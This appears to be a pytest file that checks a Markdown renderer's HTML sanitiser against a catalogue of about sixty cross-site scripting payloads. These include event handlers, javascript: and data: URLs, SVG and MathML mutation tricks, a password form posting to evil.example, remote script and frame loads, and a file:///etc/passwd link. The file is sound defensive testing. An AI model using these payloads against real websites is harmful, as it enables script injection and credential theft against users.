"""Nothing that was written can run, load from elsewhere, or break out of its place."""

import pytest
from bs4 import BeautifulSoup

from core.markdown import Picture, Reference, fill, render
from core.markdown.sanitising import DROPPED_WHOLE, SCHEMES, TAGS, sanitised

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in a paragraph": "a <script src=//evil.example/x.js></script> b",
    "an event": "<img src=x onerror=alert(1)>",
    "an event on a link": '<a href="/" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    "an event with odd spaces": "<img/src=x/onerror=alert(1)>",
    "an event on details": "<details ontoggle=alert(1) open>x</details>",
    "an event on a body": "<body onload=alert(1)>",
    "javascript in a link": "[x](javascript:alert(1))",
    "javascript in raw HTML": "<a href='javascript:alert(1)'>x</a>",
    "javascript with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript in entities": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "javascript in capitals": "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "javascript after a control character": "<a href='\x01javascript:alert(1)'>x</a>",
    "javascript by a definition": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript in an autolink": "<javascript:alert(1)>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data in a link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data in an image": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "data in Markdown": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a file": "[x](file:///etc/passwd)",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg with a link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,x#y'></use></svg>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "a style": "<p style='background:url(javascript:alert(1))'>x</p>",
    "a style sheet": "<style>*{background:url(//evil.example)}</style>",
    "a linked style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "a frame": "<iframe src=//evil.example></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a base": "<base href=//evil.example/>",
    "a form": "<form action=//evil.example><input name=password><button>x</button></form>",
    "a field": "<input type=text onfocus=alert(1) autofocus>",
    "a video": "<video src=//evil.example/x.mp4 poster=//evil.example/x.png></video>",
    "a picture's source": "<picture><source srcset=//evil.example/x.png><img src=/x.png></picture>",
    "a set of sources": "<img src=/x.png srcset='//evil.example/x.png 2x'>",
    "a remote image": "![x](https://evil.example/x.png)",
    "a remote image without a scheme": "![x](//evil.example/x.png)",
    "a remote image with backslashes": "<img src='\\\\evil.example\\x.png'>",
    "a background": "<table background=//evil.example/x.png><tr><td background=//evil.example>x</table>",
    "an unfinished tag": "<img src=x onerror=alert(1)//",
    "a mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a mutation by math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "a mutation by svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "a mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a mutation by an annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)>",
    "a mutation by a template": "<template><img src=x onerror=alert(1)></template>",
    "a mutation by a text area": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "a comment that ends oddly": "<!--><img src=x onerror=alert(1)>-->",
    "a comment with a bang": "<!--a--!><img src=x onerror=alert(1)>-->",
    "a processing instruction": "<?php <img src=x onerror=alert(1)> ?>",
    "character data": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "a broken attribute": "<a title='x\" onclick=alert(1) y=\"'>x</a>",
    "a quote in a title": '![a"onerror=alert(1) b](image:1 "x\\" onerror=alert(1)")',
    "a quote in a fragment": "<a href='page:1#\"onclick=alert(1)|x-->'>x</a>",
    "a quote in a file name": '```py title="<img src=x onerror=alert(1)>"\nx\n```',
    "a language that is a tag": "```<script>alert(1)</script>\nx\n```",
    "a class that is an attack": '```"onclick=alert(1)\nx\n```',
    "a heading's id": '## x {#a"onclick=alert(1)}\n\n## y {#<script>}',
    "a footnote's name": "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "a forged placeholder": "<!--link page:1| onclick=alert(1)-->x<!--/link-->",
    "a forged image": '<!--image image:1| alt="" onerror=alert(1)-->',
}


class Everything:
    """A resolver that knows everything, so that every placeholder is filled."""

    def address(self, reference: Reference) -> str:
        return '/"onclick=alert(1)/'

    def picture(self, image_id: int) -> Picture:
        return Picture('/x".jpg', '/x".jpg 1w', 1, 1, (("image/webp", '/x".webp 1w'),))


def harm_in(html: str) -> list[str]:
    """What a browser would find in HTML that could do harm."""
    harm = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name not in {*TAGS, "picture", "source"}:  # No writer's: `fill` makes these two.
            harm.append(f"the element {tag.name}")
        for name, value in tag.attrs.items():
            if name.startswith("on") or name in {
                "style",
                "action",
                "background",
                "poster",
                "srcdoc",
                "autofocus",
            }:
                harm.append(f"{name} on {tag.name}")
            if name == "href" and not _is_fine(str(value), {*SCHEMES, ""}):
                harm.append(f"a link to {value}")
            if name in {"src", "srcset"} and not _is_fine(str(value), {""}):
                harm.append(f"a load of {value}")
    return harm


def _is_fine(address: str, schemes: set[str]) -> bool:
    before, colon, _ = address.partition(":")
    scheme = before.strip().lower() if colon and "/" not in before else ""
    return scheme in schemes and (
        "" not in schemes or len(schemes) > 1 or not address.startswith(("//", "\\"))
    )


def test_harm_is_seen_by_this_test() -> None:
    page = "<script></script><p onclick=x style=y>a</p><a href='javascript:x'>b</a><img src=//c>"
    assert harm_in(page) == [
        "the element script",
        "onclick on p",
        "style on p",
        "a link to javascript:x",
        "a load of //c",
    ]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_made_harmless(attack: str) -> None:
    assert harm_in(fill(render(attack).html, Everything())) == []
    assert harm_in(fill(render(f"> - a\n\n   {attack}\n\nb").html, Everything())) == []


def test_what_was_made_harmless_stays_so_when_it_is_cleaned_again() -> None:
    for attack in ATTACKS.values():
        once = sanitised(attack)
        assert sanitised(once) == once


def test_the_words_around_an_attack_are_kept() -> None:
    assert render("before <script>alert(1)</script> after").text == "before after"


def test_elements_are_either_allowed_or_dropped_whole() -> None:
    assert not TAGS & DROPPED_WHOLE
    assert not TAGS & {"script", "style", "svg", "iframe", "form", "base", "meta", "link"}
